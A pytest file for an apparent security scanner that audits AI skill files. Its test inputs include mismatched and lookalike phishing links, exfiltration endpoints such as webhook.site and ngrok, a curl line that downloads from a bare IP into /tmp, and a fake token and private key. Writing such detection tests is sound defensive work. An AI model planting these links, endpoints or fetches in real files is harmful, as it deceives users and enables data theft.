"""Deception in links and hosts, and hard-coded secrets shown redacted."""

from __future__ import annotations

import pytest

from skillscope.audit.behavior.engine import SkillFileText, scan_skill
from tests.audit.behavior.helpers import rules, severity


@pytest.mark.parametrize(
    ("text", "rule"),
    [
        ("See [https://github.com/acme/tool](https://github-login.example.net/acme).", "skillscope/deception/link-mismatch"),
        ("Sign in at [docs.python.org](https://py-docs.example.net/login).", "skillscope/deception/link-mismatch"),
        ('Open <a href="https://evil.example.net/x">https://www.google.com/</a>.', "skillscope/deception/link-mismatch"),
        ("Download from https://xn--pple-43d.com/app.", "skillscope/deception/lookalike-host"),
        ("Download from https://g\u043e\u043egle.com/app.", "skillscope/deception/lookalike-host"),
        ("Results go to https://webhook.site/3f1c-9a.", "skillscope/deception/exfil-endpoint"),
        ("Upload to https://abcd-1-2.ngrok-free.app/in.", "skillscope/deception/exfil-endpoint"),
        ("Paste at https://pastebin.com/raw/x1.", "skillscope/deception/exfil-endpoint"),
        ("Post to https://discord.com/api/webhooks/123/abc.", "skillscope/deception/chat-webhook"),
        ("Fetch http://198.51.100.7:8080/p.", "skillscope/deception/bare-ip"),
    ],
)
def test_deceptive_hosts_are_found(text, rule):
    assert rule in rules({"SKILL.md": f"# Links\n\n{text}\n"})


@pytest.mark.parametrize(
    "text",
    [
        "See [https://github.com/acme/tool](https://github.com/acme/tool).",
        "See [github.com/acme](https://www.github.com/acme) and [the docs](https://docs.example.com/).",
        "Read [example.com](https://docs.example.com/guide).",
        "Serve on http://127.0.0.1:8000/ or http://localhost:3000/.",
        "Visit https://münchen.example/ for the city guide.",
        "Set SLACK_WEBHOOK_URL, e.g. https://hooks.slack.com/services/T00000000/B00000000/XXXXXXXXXXXXXXXXXXXXXXXX.",
        "Read [SKILL.md](https://github.com/acme/skills/blob/main/SKILL.md) and [setup.py](https://github.com/acme/x/blob/main/setup.py).",
    ],
)
def test_honest_links_stay_quiet(text):
    assert {r for r in rules({"SKILL.md": f"# Links\n\n{text}\n"}) if r.startswith("skillscope/deception")} == set(), text


def test_a_bare_ip_in_a_script_is_an_error_and_in_a_doc_a_warning():
    assert severity({"scripts/a.sh": "#!/bin/sh\ncurl -s http://198.51.100.7/p -o /tmp/p\n"}, "skillscope/deception/bare-ip") == ["error"]
    assert severity({"README.md": "Mirror: http://198.51.100.7/p\n"}, "skillscope/deception/bare-ip") == ["warning"]


TOKEN = "ghp_" + "Zq8vN3kLm0Pw7RtY2xBc5HdJ9sFgA1eKuV4i"


def test_a_provider_token_is_found_and_never_shown():
    (hit,) = [h for _, h in scan_skill([SkillFileText("scripts/c.py", f"TOKEN = '{TOKEN}'\n")], {}) if h.id == "skillscope/secrets/token"]
    assert "GitHub token" in hit.message and "redacted" in hit.message
    assert TOKEN not in hit.message and TOKEN not in (hit.excerpt or "") and TOKEN[-20:] not in (hit.excerpt or "")
    assert hit.line == 1


def test_a_private_key_block_is_found_and_its_body_hidden():
    key = "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAABG5vbmU=\n-----END OPENSSH PRIVATE KEY-----\n"
    (hit,) = [h for _, h in scan_skill([SkillFileText("assets/id", key)], {}) if h.id == "skillscope/secrets/token"]
    assert "private key" in hit.message and "b3BlbnNz" not in (hit.excerpt or "")


@pytest.mark.parametrize(
    "text",
    ["AWS_ACCESS_KEY_ID=AKIAIOSFODNN7EXAMPLE", "token: ghp_xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx", "Set OPENAI_API_KEY=sk-your-key-here",
     "export GITHUB_TOKEN=<your token>"],
)
def test_placeholders_are_not_secrets(text):
    assert "skillscope/secrets/token" not in rules({"README.md": text + "\n"})
